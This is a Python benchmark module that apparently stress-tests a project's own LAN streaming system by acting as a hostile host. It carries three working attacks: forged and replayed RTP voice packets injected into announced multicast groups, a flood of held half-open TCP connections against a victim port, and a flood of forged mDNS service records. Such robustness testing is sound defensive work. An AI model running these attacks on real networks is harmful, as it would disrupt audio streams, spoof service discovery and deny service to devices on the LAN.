"""A host on the LAN that means harm, one attack a process: ``voice``, ``connections``, ``names``.

Usage: ``python -m benchmarks.rogue_attacks ATTACK VICTIM PORT OWN-ADDRESS``; until it is ended. It
knows what any host of the LAN can know: what is announced, and what is sent to groups it joins.
"""

from __future__ import annotations

import contextlib
import itertools
import os
import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from typing import Final

from benchmarks.rogue import FORGED_PER_S, HALF_OPEN, NAMES_PER_S
from console.streams.browse import Browser

SLICE_S: Final = 0.01
LISTEN_S: Final = 1.5
MDNS: Final = ("224.0.0.251", 5_353)
NAMES_PER_PACKET: Final = 45
MAX_RECORDED: Final = 4_000


def main(attack: str, victim: str, port: int, own: str) -> None:
    {"voice": forge_voice, "connections": hold_connections, "names": shout_names}[attack](
        victim, port, own
    )


def paced(per_s: int, send: Callable[[], None]) -> None:
    """For ever; what could not be sent in time is not made up for."""
    count = max(1, round(per_s * SLICE_S))
    due_s = time.monotonic()
    while True:
        for _ in range(count):
            send()
        due_s = max(due_s + SLICE_S, time.monotonic() - SLICE_S)
        time.sleep(max(0.0, due_s - time.monotonic()))


# -- forged and replayed voice ------------------------------------------------------------------


def forge_voice(_victim: str, _port: int, own: str) -> None:
    """Half of it forged under the sender's own SSRC and number, half said before."""
    groups = groups_announced(own)
    recorded = record(groups, own)
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
    packets = itertools.cycle(datagrams(recorded))

    def send() -> None:
        where, datagram = next(packets)
        with contextlib.suppress(OSError):
            sender.sendto(datagram, where)

    paced(FORGED_PER_S, send)


def groups_announced(own: str) -> list[tuple[str, int]]:
    browser = Browser(own, lambda _changed, _gone: None)
    browser.start()
    time.sleep(LISTEN_S)
    found = [(one.group, one.port) for one in browser.streams() if one.group is not None]
    browser.stop()
    if not found:
        raise SystemExit("nothing is announced")
    return found


def record(groups: list[tuple[str, int]], own: str) -> list[tuple[tuple[str, int], bytes]]:
    heard: list[tuple[tuple[str, int], bytes]] = []
    for group, port in groups:
        ear = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        ear.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        ear.bind((group, port))
        joined = socket.inet_aton(group) + socket.inet_aton(own)
        ear.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, joined)
        ear.settimeout(0.5)
        with contextlib.suppress(TimeoutError):
            for _ in range(MAX_RECORDED // len(groups)):
                heard.append(((group, port), ear.recv(2_000)))
                if len(heard) % 20 == 0:
                    break
        ear.close()
    if not heard:
        raise SystemExit("nothing is said")
    return heard


def datagrams(
    recorded: list[tuple[tuple[str, int], bytes]],
) -> Iterator[tuple[tuple[str, int], bytes]]:
    source = random.Random(1)
    for where, packet in recorded * 20:
        number = struct.unpack_from("!H", packet, 2)[0]
        ahead = struct.pack("!H", (number + source.randrange(1, 400)) & 0xFFFF)
        yield where, packet[:2] + ahead + packet[4:12] + source.randbytes(len(packet) - 12)
        yield where, packet


# -- half-open connections ----------------------------------------------------------------------


def hold_connections(victim: str, port: int, _own: str) -> None:
    """Connected, and nothing said; what is closed is opened again."""
    held: list[socket.socket] = []
    while True:
        while len(held) < HALF_OPEN:
            one = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            one.setblocking(False)
            one.connect_ex((victim, port))
            held.append(one)
        time.sleep(0.05)
        held = [one for one in held if is_open(one)]


def is_open(one: socket.socket) -> bool:
    try:
        if one.recv(100):
            return True
    except BlockingIOError:
        return True
    except OSError:
        pass
    one.close()
    return False


# -- mDNS ---------------------------------------------------------------------------------------


def shout_names(_victim: str, _port: int, own: str) -> None:
    """Ever new stations and sites, the site's own name among them."""
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sender.bind(("", 5_353))
    numbers = itertools.count()

    def send() -> None:
        names = [pointer(next(numbers)) for _ in range(NAMES_PER_PACKET)]
        head = struct.pack("!HHHHHH", 0, 0x8400, 0, len(names), 0, 0)
        with contextlib.suppress(OSError):
            sender.sendto(head + b"".join(names), MDNS)

    paced(NAMES_PER_S // NAMES_PER_PACKET, send)


def pointer(number: int) -> bytes:
    kind = (b"\x04_rtp\x04_udp", b"\x09_vaktbord\x04_tcp")[number % 8 == 0]
    name = b"rogue-%d-%d" % (os.getpid(), number)
    owner = kind + b"\x05local\x00"
    data = bytes([len(name)]) + name + owner
    return owner + struct.pack("!HHIH", 12, 1, 4_500, len(data)) + data


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4])
